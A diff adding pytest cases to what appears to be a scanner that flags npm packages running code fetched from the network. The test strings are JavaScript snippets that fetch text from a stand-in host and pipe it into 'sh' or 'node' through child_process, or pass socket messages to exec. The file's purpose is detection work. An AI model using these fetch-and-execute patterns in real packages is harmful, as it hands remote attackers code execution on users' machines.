@@ -80,6 +80,53 @@ def test_it_goes_to_that_host(way: str) -> None:
     assert sent(f"module.exports = function api() {{ {SENT[way]} }}")
 
 
+FETCHED = "fetch('https://c.example.invalid/').then(r => r.text()).then(t => "
+
+
+@pytest.mark.parametrize(
+    ("command", "runs"),
+    [
+        ("'sh'", True),
+        ("'node', ['-']", True),
+        ("'node', ['a.js']", False),
+        ("'cmd.exe', ['/d', '/s', '/c', 'a.cmd']", False),
+        ("'sh', ['-c', 'cat']", False),
+    ],
+)
+def test_an_interpreter_runs_its_input_where_nothing_else_is_named(
+    command: str, runs: bool
+) -> None:
+    text = f"{FETCHED}require('child_process').spawn({command}).stdin.end(t))"
+    found = program_of("npm", {"index.js": text}).flows
+    assert runs is any(one.act is Act.EXECUTE and one.has(Taint.NETWORK) for one in found)
+
+
+@pytest.mark.parametrize(
+    ("command", "handed"),
+    [
+        ("process.execPath, ['a.js', t]", True),
+        ("'git', ['checkout', t]", True),
+        ("t, ['a']", False),
+        ("'node', [t]", False),
+        ("'node', ['-e', t]", False),
+        ("'sh', ['a.sh', t]", False),
+    ],
+)
+def test_the_network_may_say_words_for_a_program(command: str, handed: bool) -> None:
+    text = f"{FETCHED}require('child_process').execFileSync({command}))"
+    found = [one for one in program_of("npm", {"index.js": text}).flows if one.act is Act.RUN]
+    assert {one.has(Taint.HANDED) for one in found if one.has(Taint.NETWORK)} == {handed}
+
+
+def test_what_a_host_says_to_its_client_is_run() -> None:
+    text = "const s = require('a')('https://c.example.invalid'); s.on('x', c => {run}(c))"
+    run = text.replace("{run}", "require('child_process').exec")
+    found = program_of("npm", {"index.js": run}).flows
+    assert any(one.act is Act.RUN and one.has(Taint.NETWORK) for one in found)
+    shown = program_of("npm", {"index.js": text.replace("{run}", "console.log")}).flows
+    assert not any(one.act is Act.RUN for one in shown)
+
+
 @pytest.mark.parametrize("way", KEPT)
 def test_what_is_not_sent(way: str) -> None:
     assert not sent(KEPT[way])
